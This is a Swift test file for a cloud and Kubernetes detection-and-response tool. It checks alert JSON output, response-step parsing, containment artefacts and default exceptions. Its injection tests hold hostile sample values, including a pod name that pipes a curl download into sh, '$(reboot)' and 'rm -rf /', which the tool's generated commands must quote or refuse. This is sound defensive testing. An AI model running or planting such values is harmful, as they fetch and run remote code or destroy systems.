import BulkheadDetections
import BulkheadEngine
import BulkheadRules
import BulkheadScan
import BulkheadSinks
import Foundation
import Testing
import Yams

/// Response steps from the ADS, containment artefacts, and the pack's default exceptions.
@Suite struct ResponseTests {
    static func alerts(_ sample: String, exceptions: CompiledExceptions = .none) -> [Alert] {
        let engine = Engine(ruleSet: Pack.ruleSet)
        engine.exceptions = exceptions
        let playbook = ResponsePlaybook(ruleSet: Pack.ruleSet)
        var out: [Alert] = []
        let pipeline = ScanPipeline(engine: engine, onAlert: { a in
            var a = a
            playbook.apply(&a)
            out.append(a)
        }, onProblem: { _ in })
        pipeline.scan(file: Pack.root + "/" + sample)
        return out
    }

    static func podAlert(namespace: String, pod: String, event: String) -> Alert {
        var a = alerts("kubernetes/privilege_escalation_privileged_pod_created/events/fires-privileged-debug-pod.json")[0]
        a.entity = Entity(values: ["namespace": namespace, "pod": pod])
        a.event = event
        return a
    }

    /// The direct JSON-lines writer and the generic JSON writer give the same bytes for every
    /// alert of the pack's samples and the example story (steps, artefacts, entities), and for
    /// awkward values (a pretty-printed record, quotes, control and non-ASCII characters).
    @Test func directAlertJSONEqualsTheGenericWriter() {
        var all: [Alert] = []
        for dir in [Pack.root, Pack.root + "/../Examples"] {
            let engine = Engine(ruleSet: Pack.ruleSet)
            let playbook = ResponsePlaybook(ruleSet: Pack.ruleSet)
            let pipeline = ScanPipeline(engine: engine, onAlert: { a in
                var a = a
                playbook.apply(&a)
                all.append(a)
            }, onProblem: { _ in })
            pipeline.scan(paths: [dir])
        }
        #expect(all.count > 400)
        #expect(all.contains { !$0.containment.isEmpty } && all.contains { !$0.responseSteps.isEmpty })
        var odd = all[0]
        odd.rule.status = nil
        odd.time = nil
        odd.origin = Origin(name: "we\"ird\u{1}.log", line: -12_345_678_901)
        odd.entity = Entity(values: ["pod": "p\u{7F}\\", "namespace": "名前"])
        odd.event = "{\n  \"a\": 1,\r\n  \"b\": \"x\"\n}"
        odd.containment = [Artefact(kind: "aws", title: "t\"", text: "line 1\nline 2\t'q'")]
        all.append(odd)
        var oddLine: [UInt8] = []
        AlertJSON.write(odd, to: &oddLine)
        #expect(String(decoding: oddLine, as: UTF8.self).contains(#""line":-12345678901},"#))
        #expect(String(decoding: oddLine, as: UTF8.self).hasSuffix(#""event":{   "a": 1,    "b": "x" }}"# + "\n"))
        for a in all {
            var direct: [UInt8] = []
            AlertJSON.write(a, to: &direct)
            let generic = JSONWriter.object(AlertJSON.fields(a)) + "\n"
            #expect(String(decoding: direct, as: UTF8.self) == generic, "\(a.rule.title) \(a.origin)")
        }
    }

    @Test func stepsAreParsedFromTheADSResponseList() {
        let md = """
        ## Priority
        High.

        ## Response

        1. First step with `code`
           continued on the next line.
        2. Second step.
           - a nested note
        10) Tenth step.

        ## Additional Resources
        1. not a step
        """
        #expect(ResponsePlaybook.responseSteps(markdown: md) == [
            "First step with `code` continued on the next line.",
            "Second step. - a nested note",
            "Tenth step.",
        ])
        let playbook = ResponsePlaybook(ruleSet: Pack.ruleSet)
        let steps = playbook.steps(for: "a31bfb66-7616-4d27-b50a-26c19d26f02e")
        #expect(steps.count == 5)
        #expect(steps.first?.hasPrefix("Restart logging immediately") == true)
        // Every detection in the pack has response steps.
        let missing = Pack.ruleSet.rules.filter { playbook.steps(for: $0.id).isEmpty }.map(\.title)
        #expect(missing.isEmpty, "rules without response steps: \(missing)")
    }

    @Test func networkPolicyIsolatesThePodByItsLabels() throws {
        let a = Self.alerts("kubernetes/privilege_escalation_privileged_pod_created/events/fires-privileged-debug-pod.json")
            .first { $0.rule.title == "Privileged Container Created in a Pod" }
        let alert = try #require(a)
        #expect(alert.responseSteps.count == 5)
        let policy = try #require(alert.containment.first { $0.kind == "networkpolicy" })
        let yaml = try #require(try Yams.load(yaml: policy.text) as? [String: Any])
        #expect(yaml["kind"] as? String == "NetworkPolicy")
        #expect(yaml["apiVersion"] as? String == "networking.k8s.io/v1")
        let meta = try #require(yaml["metadata"] as? [String: Any])
        #expect(meta["namespace"] as? String == "default")
        let spec = try #require(yaml["spec"] as? [String: Any])
        #expect(spec["policyTypes"] as? [String] == ["Ingress", "Egress"])
        #expect((spec["ingress"] as? [Any])?.isEmpty == true)
        #expect((spec["egress"] as? [Any])?.isEmpty == true)
        let selector = try #require((spec["podSelector"] as? [String: Any])?["matchLabels"] as? [String: String])
        #expect(selector == ["run": "debug-tools"])
        let kubectl = try #require(alert.containment.first { $0.kind == "kubectl" })
        #expect(kubectl.text.contains("kubectl logs -n default debug-tools --all-containers --timestamps"))
        #expect(kubectl.text.contains("kubectl get pod -n default debug-tools -o yaml"))
        #expect(kubectl.text.contains("kubectl delete pod -n default debug-tools"))
        #expect(kubectl.text.contains("kubectl cordon"))
    }

    @Test func podWithoutLabelsIsSelectedByAQuarantineLabel() throws {
        let alert = Self.podAlert(namespace: "shop", pod: "web-1", event: #"{"objectRef":{"resource":"pods","name":"web-1"}}"#)
        let arts = Containment.artefacts(for: alert)
        let policy = try #require(arts.first { $0.kind == "networkpolicy" })
        let yaml = try #require(try Yams.load(yaml: policy.text) as? [String: Any])
        let spec = try #require(yaml["spec"] as? [String: Any])
        let selector = (spec["podSelector"] as? [String: Any])?["matchLabels"] as? [String: String]
        #expect(selector == ["bulkhead.io/quarantine": "true"])
        #expect(arts.first { $0.kind == "kubectl" }?.text.contains("kubectl label pod -n shop web-1 bulkhead.io/quarantine=true --overwrite") == true)
    }

    @Test func hostilePodNamesAreRefused() throws {
        let hostile = "x; curl http://203.0.113.9/p | sh #"
        let event = #"{"objectRef":{"resource":"pods","name":"x"},"requestObject":{"metadata":{"labels":{"app":"a\"; rm -rf /","ok":"web"}}}}"#
        let alert = Self.podAlert(namespace: "$(reboot)", pod: hostile, event: event)
        let arts = Containment.artefacts(for: alert)
        // Commands and YAML never carry the hostile values (the warning names them, escaped).
        let all = arts.filter { $0.kind != "warning" }.map(\.text).joined(separator: "\n")
        #expect(!all.contains("curl"))
        #expect(!all.contains("$(reboot)"))
        #expect(!all.contains("rm -rf"))
        #expect(all.contains("<POD>") && all.contains("<NAMESPACE>"))
        let warning = try #require(arts.first { $0.kind == "warning" })
        #expect(warning.text.contains("not a valid Kubernetes name"))
        let policy = try #require(arts.first { $0.kind == "networkpolicy" })
        let yaml = try #require(try Yams.load(yaml: policy.text) as? [String: Any])
        let spec = try #require(yaml["spec"] as? [String: Any])
        // The invalid label value is dropped; the valid one selects.
        #expect((spec["podSelector"] as? [String: Any])?["matchLabels"] as? [String: String] == ["ok": "web"])
        #expect(!Containment.isKubernetesName("Web"))
        #expect(!Containment.isKubernetesName("-web"))
        #expect(Containment.isKubernetesName("web-1.a"))
        #expect(!Containment.isKubernetesName("a.b", label: true))
    }

    @Test func shellQuoting() {
        #expect(Containment.shellQuote("management-events") == "management-events")
        #expect(Containment.shellQuote("a b") == "'a b'")
        #expect(Containment.shellQuote("x'; rm -rf / #") == #"'x'\''; rm -rf / #'"#)
        #expect(Containment.shellQuote("--help") == "'--help'")
        #expect(Containment.shellQuote("") == "''")
    }

    @Test func stopLoggingRestartsTheNamedTrail() throws {
        let alerts = Self.alerts("aws/defense_evasion_cloudtrail_logging_stopped/events/fires-stop-logging-node-role.json")
        let alert = try #require(alerts.first { $0.rule.id == "a31bfb66-7616-4d27-b50a-26c19d26f02e" })
        let aws = try #require(alert.containment.first { $0.kind == "aws" })
        #expect(aws.text.contains("aws cloudtrail start-logging --name management-events --region eu-west-1"))
        // A hostile trail name is quoted, not interpreted.
        var hostile = alert
        hostile.event = #"{"eventName":"StopLogging","awsRegion":"eu-west-1","requestParameters":{"name":"t; curl x|sh"}}"#
        let text = Containment.artefacts(for: hostile).map(\.text).joined(separator: "\n")
        #expect(text.contains("aws cloudtrail start-logging --name 't; curl x|sh' --region eu-west-1"))
    }

    @Test func metadataOptionsRequireTokens() throws {
        let folder = Pack.root + "/aws/defense_evasion_ec2_metadata_options_weakened/events"
        let sample = try #require(try FileManager.default.contentsOfDirectory(atPath: folder).sorted().first { $0.hasPrefix("fires-") })
        let alerts = Self.alerts("aws/defense_evasion_ec2_metadata_options_weakened/events/" + sample)
        let text = alerts.flatMap(\.containment).map(\.text).joined(separator: "\n")
        #expect(text.contains("--http-tokens required"))
    }

    static func defaultExceptions(today: String = "2026-11-20") throws -> CompiledExceptions {
        let text = try String(contentsOfFile: Pack.root + "/exceptions.yml", encoding: .utf8)
        let file = ExceptionsFile.load(yaml: text, file: "exceptions.yml")
        #expect(file.diagnostics.isEmpty, "\(file.diagnostics)")
        return CompiledExceptions(entries: file.entries, ruleSet: Pack.ruleSet, today: today)
    }

    @Test func defaultExceptionsAreJustifiedAndDoNotSilenceFiringSamples() throws {
        let compiled = try Self.defaultExceptions()
        #expect(compiled.diagnostics.isEmpty, "\(compiled.diagnostics)")
        #expect(compiled.active.count >= 5)
        for e in compiled.active {
            #expect(!e.reason.isEmpty && !e.owner.isEmpty, "\(e.name)")
        }
        let validator = PackValidator(ruleSet: Pack.ruleSet, exceptions: compiled)
        for d in Pack.detections {
            for r in validator.validate(d) where r.expectFire {
                #expect(r.passed, "\(r.sample): \(r.problems.joined(separator: "; "))")
            }
        }
        // The tuning file is not loaded as a rule file.
        #expect(!RuleFiles.yamlFiles([Pack.root]).files.contains { $0.hasSuffix("exceptions.yml") })
    }

    @Test func defaultExceptionsSuppressSystemIdentities() throws {
        let compiled = try Self.defaultExceptions()
        let sample = Pack.root + "/kubernetes/privilege_escalation_privileged_pod_created/events/fires-privileged-debug-pod.json"
        let text = try String(contentsOfFile: sample, encoding: .utf8)
            .replacingOccurrences(of: "alice@example.com", with: "eks:node-manager")
        let tmp = FileManager.default.temporaryDirectory.appendingPathComponent("bulkhead-ds-\(UUID().uuidString).json").path
        try text.write(toFile: tmp, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: tmp) }
        let engine = Engine(ruleSet: Pack.ruleSet)
        engine.exceptions = compiled
        var alerts = 0
        let pipeline = ScanPipeline(engine: engine, onAlert: { _ in alerts += 1 }, onProblem: { _ in })
        pipeline.scan(file: tmp)
        let byName = Dictionary(uniqueKeysWithValues: zip(compiled.active.map(\.name), engine.suppressedCounts))
        #expect(alerts == 0)
        #expect(byName["eks-control-plane-identities"] == 1)
    }
}
